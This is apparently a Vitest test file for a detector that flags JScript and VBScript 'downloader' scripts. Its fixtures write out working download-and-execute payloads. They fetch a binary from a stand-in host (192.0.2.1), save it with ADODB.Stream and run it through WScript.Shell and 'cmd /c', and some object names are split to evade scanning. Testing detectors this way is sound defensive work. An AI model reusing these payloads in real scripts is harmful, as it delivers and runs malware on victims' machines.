import { expect, it } from 'vitest'
import { ask, j } from './testing/ask.ts'

const [stream, save, shell] = [j('ADODB', '.Stream'), j('.SaveTo', 'File'), j('WScript', '.Shell')]
const javascript = (run: string) =>
  `var s=new ActiveXObject("${shell}");var x=new ActiveXObject("MSXML2.XMLHTTP");x.open("GET","http://192.0.2.1/a",0);x.send();` +
  `var a=new ActiveXObject("${stream}");a.Open();a.Type=1;a.Write(x.ResponseBody);a${save}("a.bin");${run}`
const basic = `Set x = CreateObject("WinHttp.WinHttpRequest.5.1")
x.Open "GET", u, False : x.Send
Set b = CreateObject("${stream}")
b.Open : b.Write x.ResponseBody : b${save} path, 2
CreateObject("${shell}").Run "cmd /c " & path, 0`

it.each<[string, string]>([
  ['JavaScript', javascript('s.Run("a.bin");')],
  ['with comments between', javascript('s./* x */Run("a.bin");').replace(save, `/* y */${save}`)],
  ['Visual Basic', basic],
])('a script that downloads a file and runs it is suspicious: %s', (_, script) => {
  expect(ask(script)).toEqual(['Script.Downloader'])
})

it.each<[string, string]>([
  ['saves without running', javascript('').replace(shell, 'Scripting.FileSystemObject')],
  ['runs without fetching', basic.replace('WinHttp.WinHttpRequest.5.1', 'Scripting.Dictionary')],
  ['fetches and runs, and saves nothing', javascript('s.Run("calc")').replace(save, '.Flush')],
  ['is a guide', `# How to\n\nSome words.\n\n\`\`\`vbs\n${basic}\n\`\`\`\n`],
])('a script that %s is ordinary', (_, script) => {
  expect(ask(script)).toEqual([])
})
